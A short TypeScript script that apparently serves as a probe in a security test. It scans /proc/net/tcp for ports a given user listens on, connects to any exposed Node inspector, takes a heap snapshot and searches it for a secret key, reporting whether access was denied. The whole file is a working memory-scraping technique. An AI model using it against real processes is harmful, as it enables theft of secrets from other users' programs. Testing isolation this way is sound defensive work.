// take-snapshot UID KEY: looks for inspectors on all TCP ports on which that uid listens, takes a heap
// snapshot over the first one, and looks for the key in it. Any uid may run this.

import fs from "node:fs";
import { WebSocket } from "undici";

const [uid, key] = process.argv.slice(2) as [string, string];

function say(outcome: string): never {
  console.log(outcome);
  process.exit(0);
}

// proc_net_tcp: local address, state 0A for listening, and the uid in the eighth column.
const ports = fs
  .readFileSync("/proc/net/tcp", "utf8")
  .split("\n")
  .map((line) => line.trim().split(/\s+/))
  .filter((columns) => columns[3] === "0A" && columns[7] === uid)
  .map((columns) => Number.parseInt((columns[1] as string).slice(-4), 16));

async function findInspector(): Promise<string | undefined> {
  for (const port of ports) {
    try {
      const answer = await fetch(`http://127.0.0.1:${port}/json/list`, { signal: AbortSignal.timeout(1000) });
      const targets = (await answer.json()) as { webSocketDebuggerUrl?: string }[];
      if (targets[0]?.webSocketDebuggerUrl !== undefined) return targets[0].webSocketDebuggerUrl;
    } catch {
      // not an inspector
    }
  }
  return undefined;
}

const url = await findInspector();
if (url === undefined) say("denied");

let foundKey = false;
let overlap = "";
const socket = new WebSocket(url);
socket.addEventListener("open", () => {
  socket.send(JSON.stringify({ id: 1, method: "HeapProfiler.takeHeapSnapshot", params: {} }));
});
socket.addEventListener("message", ({ data }) => {
  const message = JSON.parse(data) as { id?: number; params?: { chunk?: string } };
  const text = overlap + (message.params?.chunk ?? "");
  foundKey ||= text.includes(key);
  overlap = text.slice(-key.length);
  if (message.id === 1) say(foundKey ? "gets key" : "gets process");
});
socket.addEventListener("error", () => say("denied"));
setTimeout(() => say("gets process"), 8000);
